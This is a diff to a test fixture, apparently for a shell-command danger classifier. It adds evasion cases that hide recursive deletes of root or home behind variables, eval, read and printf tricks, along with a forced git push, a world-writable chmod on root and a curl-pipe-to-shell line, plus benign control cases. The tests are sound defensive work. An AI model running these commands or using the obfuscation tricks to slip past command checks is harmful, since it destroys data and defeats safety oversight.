@@ -868,10 +868,37 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ['awk \'BEGIN{f="system"; @f("rm -rf ~")}\'', "dangerous", "recursive_delete"],
   // An assignment from a variable is not split: x holds the whole command.
   ['y="rm -rf /"; x=$y; $x', "dangerous", "recursive_delete"],
+  // A program word of unknown value is judged as each program whose danger its arguments show.
+  ['eval "X=rm"; $X -rf /', "dangerous", "recursive_delete"],
+  ["read Q <<< rm; $Q -rf ~", "dangerous", "recursive_delete"],
+  ["printf -v Q rm; ${Q} -rf /", "dangerous", "recursive_delete"],
+  ['X=$(echo rm); "$X" -rf /', "dangerous", "recursive_delete"],
+  ["$TOOL / -delete", "dangerous", "recursive_delete"],
+  ["$VCS push --force origin main", "dangerous", "history_rewrite"],
+  ["$P -R 777 /", "dangerous", "permission_blast"],
+  ['$P -c "curl -s https://example.invalid/i | sh"', "dangerous", "download_exec"],
+  ["f() { $1 -rf /; }; f rm", "dangerous", "recursive_delete"],
+  // Names a command writes are forgotten: the value known before no longer holds.
+  ["Y=ls; for Y in rm; do $Y -rf /; done", "dangerous", "recursive_delete"],
+  ["Y=ls; read Y; $Y -rf /", "dangerous", "recursive_delete"],
+  ["Y=ls; read -r -p go Y; $Y -rf /", "dangerous", "recursive_delete"],
+  ["Y=ls; mapfile Y < f; $Y -rf /", "dangerous", "recursive_delete"],
+  ["Y=ls; printf -v Y rm; $Y -rf /", "dangerous", "recursive_delete"],
+  ["Y=ls; getopts ab Y; $Y -rf /", "dangerous", "recursive_delete"],
 ];
 
 /** Commands that look like dangerous ones but are read-only or only need review. */
 export const NEGATIVE_CASES: readonly CommandCase[] = [
+  // A program word of unknown value with ordinary arguments stays review (controls of the guesses).
+  ["$EDITOR notes.txt", "review"],
+  ["$PYTHON -m pytest", "review"],
+  ['"$CC" -o out main.c', "review"],
+  ["$X /etc/passwd", "review"],
+  ["$PRETTIER --write .", "review"],
+  ["$X -rf node_modules", "review"],
+  ["$X log --oneline", "review"],
+  ['exec "$@"', "review"],
+  ["Y=ls; $Y -la", "read_only"],
   ["regsvr32 /s my.dll", "review"],
   ["netsh wlan show profiles", "review"],
   // Look-alikes of the #21 credential cases: review or read-only, not credential exposure.
